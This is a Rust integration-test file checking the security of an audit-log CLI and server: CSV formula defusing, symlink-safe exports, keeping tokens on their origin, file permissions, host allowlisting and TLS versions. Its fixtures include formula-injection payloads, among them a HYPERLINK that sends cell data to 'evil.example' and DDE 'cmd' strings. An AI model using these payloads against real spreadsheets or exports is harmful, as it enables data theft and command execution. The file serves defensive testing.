//! Security properties of the client commands, run as a user runs them (the built binary):
//! CSV exports defuse spreadsheet formulas, `export --out` cannot be pointed at another file
//! through a planted symlink, and the token never leaves the origin it was given for, whatever
//! `Link` or redirect a server answers with.

use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::process::Output;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::{Value, json};

use crate::helpers::{TestApp, admin_event, auditrail_command, now_ms, org_and_token, serve, spawn_app, ts};

const TOKEN: &str = "atr_cli_security_secret_token";

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// Runs the binary off the async runtime, which keeps serving the in-process server meanwhile.
async fn run(args: Vec<String>) -> Output {
    tokio::task::spawn_blocking(move || {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        auditrail_command(&args).output().expect("run auditrail")
    })
    .await
    .expect("join")
}

fn args(list: &[&str]) -> Vec<String> {
    list.iter().map(|s| (*s).to_owned()).collect()
}

/// A data directory with one org and a token of `scope`: (temp dir, data path, token).
fn store_with_token(name: &str, scope: &str) -> (tempfile::TempDir, String, String) {
    let root = tempfile::tempdir().expect("temp dir");
    let data = root.path().join("data").display().to_string();
    let (_, token) = org_and_token(&["--data", &data], name, scope);
    (root, data, token)
}

fn free_address() -> String {
    let port = TcpListener::bind("127.0.0.1:0").expect("bind").local_addr().expect("addr").port();
    format!("127.0.0.1:{port}")
}

/// Exports the app's admin events of the last day as CSV into `out`; must succeed.
async fn export_csv(app: &TestApp, out: &str) {
    let output = run(args(&[
        "export",
        "--server",
        &app.base,
        "--token",
        &app.token_all,
        "--kind",
        "admin",
        "--from",
        "1d",
        "--format",
        "csv",
        "--out",
        out,
    ]))
    .await;
    assert!(output.status.success(), "export failed: {}", text(&output.stderr));
}

/// RFC 4180 records: quoted cells may hold commas, doubled quotes and line breaks; records end
/// with CRLF. Panics on anything malformed, which is itself a failure of the export.
fn parse_csv(input: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut cell = String::new();
    let mut chars = input.chars().peekable();
    let mut quoted = false;
    let mut at_cell_start = true;
    while let Some(c) = chars.next() {
        if quoted {
            match c {
                '"' if chars.peek() == Some(&'"') => {
                    chars.next();
                    cell.push('"');
                }
                '"' => {
                    quoted = false;
                    assert!(matches!(chars.peek(), None | Some(',') | Some('\r')), "text after a closing quote");
                }
                _ => cell.push(c),
            }
            continue;
        }
        match c {
            '"' if at_cell_start => {
                quoted = true;
                at_cell_start = false;
            }
            '"' => panic!("a quote inside an unquoted cell: {cell:?}"),
            ',' => {
                record.push(std::mem::take(&mut cell));
                at_cell_start = true;
            }
            '\r' => {
                assert_eq!(chars.next(), Some('\n'), "a bare CR outside quotes ends no record");
                record.push(std::mem::take(&mut cell));
                records.push(std::mem::take(&mut record));
                at_cell_start = true;
            }
            '\n' => panic!("a bare LF outside quotes"),
            _ => {
                cell.push(c);
                at_cell_start = false;
            }
        }
    }
    assert!(!quoted, "unterminated quoted cell");
    assert!(cell.is_empty() && record.is_empty(), "the last record has no CRLF");
    records
}

#[tokio::test(flavor = "multi_thread")]
async fn csv_export_defuses_formula_cells() {
    let app = spawn_app().await;
    let mut event = admin_event(&ts(now_ms() - 60_000), "USERS", "formula-actor");
    let data = &mut event["data"];
    data["actorName"] = json!("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
    data["actionText"] = json!("+cmd|' /C calc'!A0");
    data["eventDescription"] = json!("-2+3");
    data["targetName"] = json!("@SUM(1+1)*cmd|' /C calc'!A0");
    data["targetId"] = json!("\t=1+1");
    data["errorMessage"] = json!("\r=1+1,\nsecond line");
    data["targetType"] = json!("User = Admin, +1");
    let plain = admin_event(&ts(now_ms() - 30_000), "LOGINS", "plain-actor");
    app.ingest_ok("admin", &json!([event, plain])).await;
    let served: Vec<Value> = crate::helpers::items(
        &app.get_json(&app.admin_path(&ts(now_ms() - 86_400_000), &ts(now_ms()), ""), &app.token_all).await,
    );
    assert_eq!(served.len(), 2);

    let dir = tempfile::tempdir().expect("dir");
    let out = dir.path().join("admin.csv");
    export_csv(&app, out.to_str().expect("utf-8")).await;
    let records = parse_csv(&std::fs::read_to_string(&out).expect("export file"));
    let header = &records[0];
    let column = |name: &str| header.iter().position(|h| h == name).expect("column");
    assert_eq!(records.len(), 3, "header and two events: {records:?}");
    for row in &records[1..] {
        let id = &row[column("id")];
        let served = served.iter().find(|e| e["id"] == json!(id)).expect("exported event was served");
        for (name, pointer) in [
            ("id", "/id"),
            ("created", "/created"),
            ("actorId", "/actorId"),
            ("actorName", "/data/actorName"),
            ("eventCategory", "/data/eventCategory"),
            ("eventDescription", "/data/eventDescription"),
            ("actionText", "/data/actionText"),
            ("targetType", "/data/targetType"),
            ("targetId", "/data/targetId"),
            ("targetName", "/data/targetName"),
            ("errorMessage", "/data/errorMessage"),
        ] {
            let value = served.pointer(pointer).and_then(Value::as_str).unwrap_or("");
            let expected = if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                format!("'{value}")
            } else {
                value.to_owned()
            };
            assert_eq!(row[column(name)], expected, "{name} of {id}");
        }
    }
    // All six formula starters were exercised, and each came out defused.
    let cells: Vec<&String> = records[1..].iter().flatten().collect();
    for c in ['=', '+', '-', '@', '\t', '\r'] {
        assert!(cells.iter().any(|cell| cell.starts_with(&format!("'{c}"))), "no defused cell starting {c:?}");
        assert!(!cells.iter().any(|cell| cell.starts_with(c)), "a cell starts with a raw {c:?}");
    }
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread")]
async fn export_out_never_follows_a_planted_partial_symlink() {
    use std::os::unix::fs::PermissionsExt;

    let app = spawn_app().await;
    let events: Vec<Value> =
        (0..3).map(|i| admin_event(&ts(now_ms() - 60_000 + i), "USERS", &format!("actor-{i}"))).collect();
    app.ingest_ok("admin", &json!(events)).await;
    let dir = tempfile::tempdir().expect("dir");
    let victim = dir.path().join("victim.txt");
    std::fs::write(&victim, "precious\n").expect("victim");
    let out = dir.path().join("out.csv");
    let planted = dir.path().join("out.csv.partial");
    std::os::unix::fs::symlink(&victim, &planted).expect("symlink");

    export_csv(&app, out.to_str().expect("utf-8")).await;

    assert_eq!(std::fs::read_to_string(&victim).expect("victim"), "precious\n", "the symlink's target was written");
    assert!(std::fs::symlink_metadata(&planted).expect("planted link").file_type().is_symlink());
    let meta = std::fs::symlink_metadata(&out).expect("out.csv");
    assert!(meta.file_type().is_file(), "out.csv is a regular file, not a link");
    assert_eq!(meta.permissions().mode() & 0o777, 0o600, "the export is private to its owner");
    let records = parse_csv(&std::fs::read_to_string(&out).expect("out.csv"));
    assert_eq!(records.len(), 4, "header and every event: {records:?}");
    assert_eq!(records[0][0], "id");
    // No temporary file is left behind.
    let mut names: Vec<String> = std::fs::read_dir(dir.path())
        .expect("dir")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into())
        .collect();
    names.sort();
    assert_eq!(names, ["out.csv", "out.csv.partial", "victim.txt"]);
}

/// A fake HTTP server on a random port: answers every request with `answer(request head)` and
/// records each request head it received.
struct Fake {
    base: String,
    requests: Arc<Mutex<Vec<String>>>,
}

impl Fake {
    fn start(answer: impl Fn(&str) -> String + Send + 'static) -> Fake {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
        let base = format!("http://127.0.0.1:{}", listener.local_addr().expect("addr").port());
        let requests = Arc::new(Mutex::new(Vec::new()));
        let seen = requests.clone();
        // Lives until the test binary exits; each connection carries one request.
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
                let mut head = String::new();
                let mut reader = BufReader::new(&stream);
                loop {
                    let mut line = String::new();
                    match reader.read_line(&mut line) {
                        Ok(0) | Err(_) => break,
                        Ok(_) if line == "\r\n" => break,
                        Ok(_) => head.push_str(&line),
                    }
                }
                seen.lock().expect("lock").push(head.clone());
                let _ = stream.write_all(answer(&head).as_bytes());
            }
        });
        Fake { base, requests }
    }

    fn requests(&self) -> Vec<String> {
        self.requests.lock().expect("lock").clone()
    }
}

fn http(status: &str, headers: &str, body: &str) -> String {
    format!(
        "HTTP/1.1 {status}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n{headers}\r\n{body}",
        body.len()
    )
}

/// The other origin: records whatever reaches it, answers an empty last page.
fn bystander() -> Fake {
    Fake::start(|_| http("200 OK", "", r#"{"items":[]}"#))
}

/// A compliance page whose next-page `Link` points at `next`.
fn linking_to(next: &str) -> Fake {
    let link = format!("Link: <{next}/v1/events?cursor=x>; rel=\"next\"\r\n");
    let body = json!({"items": [{
        "id": "Y2lzY29zcGFyazovL3VzL0VWRU5UL2Zha2U",
        "resource": "messages",
        "type": "created",
        "actorId": "actor",
        "created": ts(now_ms() - 60_000),
        "data": {}
    }]})
    .to_string();
    Fake::start(move |_| http("200 OK", &link, &body))
}

fn carries_token(requests: &[String]) -> bool {
    requests.iter().any(|r| r.contains(TOKEN))
}

#[tokio::test]
async fn events_list_refuses_a_link_to_another_origin() {
    let other = bystander();
    let first = linking_to(&other.base);
    let output =
        run(args(&["events", "list", "--kind", "compliance", "--server", &first.base, "--token", TOKEN])).await;
    let err = text(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "must fail; stderr: {err}");
    assert_eq!(err.lines().filter(|l| !l.trim().is_empty()).count(), 1, "one line: {err}");
    assert!(err.contains(&first.base) && err.contains(&other.base), "names both origins: {err}");
    assert!(err.contains("--server"), "{err}");
    assert!(carries_token(&first.requests()), "the given server did get the token");
    assert!(!carries_token(&other.requests()), "the token reached the other origin");
    assert!(other.requests().is_empty(), "the other origin was requested at all");
}

#[tokio::test]
async fn a_redirect_to_another_origin_is_not_followed() {
    let other = bystander();
    let location = format!("Location: {}/v1/events\r\n", other.base);
    let first = Fake::start(move |_| http("307 Temporary Redirect", &location, ""));
    let output =
        run(args(&["events", "list", "--kind", "compliance", "--server", &first.base, "--token", TOKEN])).await;
    let err = text(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "must fail; stderr: {err}");
    assert!(err.contains(&first.base) && err.contains(&other.base), "names both origins: {err}");
    assert_eq!(first.requests().len(), 1, "a refused redirect is not retried");
    assert!(other.requests().is_empty(), "the redirect was followed");
}

#[tokio::test(flavor = "multi_thread")]
async fn pull_refuses_a_source_link_to_another_origin() {
    let dest = spawn_app().await;
    let other = bystander();
    let source = linking_to(&other.base);
    let dir = tempfile::tempdir().expect("dir");
    let state = dir.path().join("state.json");
    let org = dest.org.to_string();
    let output = run(args(&[
        "pull",
        "--source",
        &source.base,
        "--source-token",
        TOKEN,
        "--org",
        &org,
        "--kinds",
        "compliance",
        "--server",
        &dest.base,
        "--token",
        &dest.token_all,
        "--state",
        state.to_str().expect("utf-8"),
    ]))
    .await;
    let err = text(&output.stderr);
    assert!(!output.status.success(), "must fail; stderr: {err}");
    assert!(err.contains(&source.base) && err.contains(&other.base) && err.contains("--source"), "{err}");
    assert!(carries_token(&source.requests()), "the source did get its token");
    assert!(other.requests().is_empty(), "the other origin was requested");
    let dest_token_leaked = other.requests().iter().any(|r| r.contains(&dest.token_all));
    assert!(!dest_token_leaked);
}

#[cfg(unix)]
fn mode(path: &std::path::Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path).expect("metadata").permissions().mode() & 0o777
}

/// The data directory and the database are the server user's alone, whatever the umask; a
/// signing key others can read is reported.
#[cfg(unix)]
#[tokio::test]
async fn the_store_is_private_and_a_shared_signing_key_is_reported() {
    let root = tempfile::tempdir().expect("temp dir");
    let data = root.path().join("data");
    let data_arg = data.display().to_string();
    // Under the usual umask (022) plain creation would give 0755 and 0644.
    let out = run(args(&["org", "create", "--data", &data_arg, "--name", "Private"])).await;
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(mode(&data), 0o700, "data directory");
    assert_eq!(mode(&data.join("auditrail.db")), 0o600, "database file");
    for side in ["auditrail.db-wal", "auditrail.db-shm"] {
        let path = data.join(side);
        if path.exists() {
            assert_eq!(mode(&path), 0o600, "{side}");
        }
    }
    // A key file readable by everyone: `serve` warns about it.
    let key = root.path().join("shared.key");
    let key_text =
        auditrail_core::checkpoint::SigningKey::generate_from("shared", [9; 32]).expect("key").to_private_text();
    std::fs::write(&key, key_text).expect("write key");
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    }
    // The key is read before the server listens: the warning is in its log by then.
    let server = serve(&["--data", &data_arg, "--signing-key", &key.display().to_string()]);
    let log = server.output();
    assert!(log.contains("signing key is readable by other users"), "serve did not warn: {log}");
}

/// `serve`'s own flags reach the server (the HTTP suite builds its config in-process): the
/// metrics listener, the per-token rate limit and the head size limit, on a real process.
#[tokio::test]
async fn serve_flags_reach_the_server() {
    let (_root, data, token) = store_with_token("Flags", "audit:events_read");
    let metrics = free_address();
    let flags = ["--metrics-listen", &metrics, "--rate-limit", "1", "--rate-burst", "1", "--max-header-bytes", "4096"];
    let server = serve(&[&["--data", data.as_str()], &flags[..]].concat());
    let api = server.addr();
    let client = reqwest::Client::new();
    // A request first: metrics appear with what they measure.
    assert_eq!(client.get(format!("http://{api}/healthz")).send().await.expect("healthz").status(), 200);
    let scraped = client.get(format!("http://{metrics}/metrics")).send().await.expect("scrape");
    assert_eq!(scraped.status(), 200);
    assert!(scraped.text().await.expect("metrics").contains("# TYPE "));
    assert_eq!(client.get(format!("http://{api}/metrics")).send().await.expect("metrics").status(), 401);
    let big = client.get(format!("http://{api}/v1/people/me")).bearer_auth(&token).header("X-Pad", "p".repeat(5_000));
    assert_eq!(big.send().await.expect("big head").status(), 431);
    // One request a second, burst one: of ten back-to-back requests at most a couple pass.
    let mut statuses = Vec::new();
    for _ in 0..10 {
        let r = client.get(format!("http://{api}/v1/people/me")).bearer_auth(&token).send().await.expect("request");
        statuses.push(r.status().as_u16());
    }
    drop(server);
    assert!(statuses.iter().filter(|s| **s == 429).count() >= 5, "{statuses:?}");
}

/// A loopback `serve` answers only for the names a local client uses for it (no DNS rebinding,
/// no made-up hosts in `Link`s); `--allowed-host` names others; probes answer any host.
#[tokio::test]
async fn serve_answers_only_for_its_hosts() {
    let (_root, data, token) = store_with_token("Hosts", "audit:events_read");
    for extra in [None, Some("audit.example.com")] {
        let mut argv = vec!["--data", &data];
        if let Some(host) = extra {
            argv.extend(["--allowed-host", host]);
        }
        let server = serve(&argv);
        let (listen, port) = (server.addr().to_string(), server.addr().port());
        let client = reqwest::Client::new();
        let me = |host: String| {
            client.get(format!("http://{listen}/v1/people/me")).bearer_auth(&token).header("Host", host).send()
        };
        let status = |r: reqwest::Response| r.status().as_u16();
        let own = if extra.is_some() { 400 } else { 200 };
        assert_eq!(status(me(listen.clone()).await.expect("own")), own, "{extra:?}");
        assert_eq!(status(me(format!("localhost:{port}")).await.expect("localhost")), own, "{extra:?}");
        assert_eq!(status(me("evil.example".to_owned()).await.expect("evil")), 400, "{extra:?}");
        let configured = if extra.is_some() { 200 } else { 400 };
        assert_eq!(status(me("audit.example.com".to_owned()).await.expect("configured")), configured, "{extra:?}");
        let probe = client.get(format!("http://{listen}/healthz")).header("Host", "10.0.0.7:8080").send().await;
        assert_eq!(status(probe.expect("probe")), 200);
    }
}

/// `serve --tls-cert/--tls-key` on a real process: HTTPS with the configured certificate, TLS 1.2
/// and 1.3 only (checked with an independent client, `openssl s_client`), nothing in plain HTTP.
#[tokio::test]
async fn serve_speaks_only_tls_1_2_and_1_3_when_given_a_certificate() {
    let root = tempfile::tempdir().expect("temp dir");
    let certified = rcgen::generate_simple_self_signed(vec!["localhost".to_owned()]).expect("certificate");
    let (cert, key) = (root.path().join("cert.pem"), root.path().join("key.pem"));
    std::fs::write(&cert, certified.cert.pem()).expect("cert");
    std::fs::write(&key, certified.signing_key.serialize_pem()).expect("key");
    let data = root.path().join("data").display().to_string();
    let (cert_arg, key_arg) = (cert.display().to_string(), key.display().to_string());
    let tls = ["--tls-cert", &cert_arg, "--tls-key", &key_arg, "--allowed-host", "localhost"];
    let server = serve(&[&["--data", data.as_str()], &tls[..]].concat());
    assert!(server.base().starts_with("https://"), "{}", server.base());
    let (listen, port) = (server.addr().to_string(), server.addr().port());
    let trusted = reqwest::Certificate::from_pem(certified.cert.pem().as_bytes()).expect("root");
    let client = reqwest::Client::builder()
        .add_root_certificate(trusted)
        .resolve("localhost", format!("127.0.0.1:{port}").parse().expect("addr"))
        .build()
        .expect("client");
    let health = client.get(format!("https://localhost:{port}/healthz")).send().await.expect("healthz");
    assert_eq!(health.status(), 200);
    assert!(reqwest::get(format!("http://{listen}/healthz")).await.is_err(), "plain HTTP is not served");
    let handshake = |version: &'static str| {
        let connect = listen.clone();
        tokio::task::spawn_blocking(move || {
            // SECLEVEL=0 lets the client offer old protocols, so a refusal is the server's.
            let out = std::process::Command::new("openssl")
                .args(["s_client", "-connect", &connect, "-servername", "localhost", version])
                .args(["-cipher", "DEFAULT@SECLEVEL=0"])
                .stdin(std::process::Stdio::null())
                .output();
            match out {
                Ok(out) => Some((out.status.success(), text(&out.stdout))),
                Err(_) => None,
            }
        })
    };
    let mut checked = 0;
    for (version, expected) in [("-tls1_3", Some("TLSv1.3")), ("-tls1_2", Some("TLSv1.2")), ("-tls1_1", None)] {
        let Some((succeeded, stdout)) = handshake(version).await.expect("join") else { continue };
        checked += 1;
        match expected {
            Some(protocol) => assert!(succeeded && stdout.contains(protocol), "{version}: {stdout}"),
            None => assert!(!succeeded && stdout.contains("Cipher is (NONE)"), "{version} was accepted: {stdout}"),
        }
    }
    drop(server);
    assert!(
        checked == 3 || std::env::var_os("AUDITRAIL_REQUIRE_ALL_TESTS").is_none(),
        "openssl is required to check the TLS versions"
    );
}
